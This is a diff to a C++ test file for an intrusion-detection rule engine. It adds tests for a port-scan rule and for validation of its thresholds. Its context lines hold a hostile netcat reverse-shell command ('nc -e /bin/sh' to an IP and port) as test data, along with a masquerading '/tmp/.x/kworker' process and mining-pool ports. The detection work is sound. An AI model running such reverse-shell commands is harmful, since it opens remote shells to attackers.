@@ -199,6 +199,36 @@ TEST_CASE("first_rules: a failed exec fires nothing", "[first_rules][miner]") {
     CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}, -2)).empty());
 }
 
+TEST_CASE("first_rules: a port scan by any program, and busy clients that are none", "[first_rules][scanner]") {
+    // fresh rules: the scan rule keeps state
+    std::vector<std::string> errors;
+    const auto rules = FirstRules::load({kDefaultRules}, errors);
+    REQUIRE(rules);
+    int scans = 0;
+    for (uint16_t port = 1; port <= 80; port++) {
+        Scene s = connect_inet_scene("10.0.0.9", port, -111);
+        s.by("/tmp/.x/kworker", {"kworker"});
+        s.event.boot_ns = 1000000000ULL + port * 1000000ULL;
+        for (const auto &d : detect(s, *rules)) {
+            scans += d.rule->name == "port_scan";
+            if (d.rule->name == "port_scan") {
+                CHECK(d.rule->category == "scanner");
+                CHECK(port == 50);
+                CHECK(d.output.find("10.0.0.9") != std::string::npos);
+            }
+        }
+    }
+    CHECK(scans == 1);
+
+    // a scraper reaching 200 hosts on one port, and a client retrying one port
+    for (int h = 1; h <= 200; h++) {
+        Scene s = connect_inet_scene("10.1.0." + std::to_string(h % 250), 9100);
+        s.event.boot_ns = 5000000000ULL + uint64_t(h);
+        CHECK(fired(s, *rules).empty());
+    }
+    for (int i = 0; i < 200; i++) CHECK(fired(connect_inet_scene("10.2.0.1", 5432, -111), *rules).empty());
+}
+
 TEST_CASE("first_rules: a mining-pool port fires from a container only", "[first_rules][miner]") {
     CHECK(fired(connect_inet_scene("198.51.100.7", 3333, -115)) == Names{"mining_pool_port_connect"});
     CHECK(fired(connect_inet_scene("2001:db8::7", 14444)) == Names{"mining_pool_port_connect"});
@@ -409,9 +439,17 @@ TEST_CASE("first_rules errors: unknown predicate", "[first_rules][errors]") {
     RuleFiles f;
     const Names errors = f.errors_of("rules:\n" + rule_yaml("r1", "      exe_name_is: [nmap]\n"));
     CHECK(errors == Names{f.at(8, 7,
-                               "unknown predicate 'exe_name_is' (known: args_contain_any, args_flag_any, dst_port_in, "
+                               "unknown predicate 'exe_name_is' (known: args_contain_any, args_flag_any, distinct_ports_per_host, dst_port_in, "
                                "exe_name_in, flag_value_contains_any, host_file, host_pid_ns, in_container, open_for_write, "
                                "path_name_in, path_prefix_in, succeeded, unix_socket_name_in)")});
+}
+
+TEST_CASE("first_rules errors: bad port-scan thresholds", "[first_rules][errors]") {
+    RuleFiles f;
+    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      distinct_ports_per_host: {at_least: 0, within_seconds: 10}\n")) ==
+          Names{f.at(8, 43, "'at_least' must be a whole number from 1 to 65536")});
+    CHECK(f.errors_of("rules:\n" + rule_yaml("r1", "      distinct_ports_per_host: {at_least: 50}\n")) ==
+          Names{f.at(8, 32, "expected {at_least: <count>, within_seconds: <seconds>}")});
 }
 
 TEST_CASE("first_rules errors: undefined list", "[first_rules][errors]") {
